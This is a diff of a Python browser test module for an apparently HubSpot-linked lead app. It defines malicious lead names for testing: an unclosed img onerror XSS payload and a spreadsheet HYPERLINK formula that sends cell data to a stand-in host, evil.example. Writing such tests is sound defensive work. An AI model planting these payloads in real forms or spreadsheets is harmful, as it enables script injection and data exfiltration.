@@ -7,15 +7,16 @@ from contextlib import contextmanager
 from pathlib import Path
 from typing import NamedTuple
 
-from playwright.sync_api import Browser, Page, StorageState, expect
+from playwright.sync_api import Browser, StorageState
 
 from tests.browser import people
 from tests.browser.chromium import Watch, browsing
 from tests.browser.world import World, world
 
 LEADS = 150
-MARKUP = """<img src=x onerror="document.title='taken over'">"""
-"""The first name of a lead: a picture to a browser that is told so, and its failure runs a script."""
+MARKUP = """<img src=x onerror="document.title='taken over'" x"""
+"""The first name of a lead: a picture to a browser that is told so, and its failure runs a script. It has no end, for
+whole tags are not read at all."""
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 """The first name of another lead: a formula to a spreadsheet."""
 FLAGGED = ("Score too high", "Score too low", "Wrong data", "Score too high", "Score too low", "Do not contact")
@@ -68,12 +69,3 @@ def _choice(one: World, label: str) -> str:
     """The value of an option of the flag, by what a rep reads."""
     options = one.hubspot("GET", "/crm/v3/properties/contacts/leadtier_flag")["options"]
     return next(str(each["value"]) for each in options if each["label"] == label)
-
-
-def sign_in(page: Page, url: str, email: str, password: str) -> None:
-    """By the form, wherever it is shown."""
-    page.goto(url)
-    page.get_by_label("E-mail address").fill(email)
-    page.get_by_label("Password").fill(password)
-    page.get_by_role("button", name="Sign in").click()
-    expect(page.get_by_role("button", name="Sign out").first).to_be_visible()
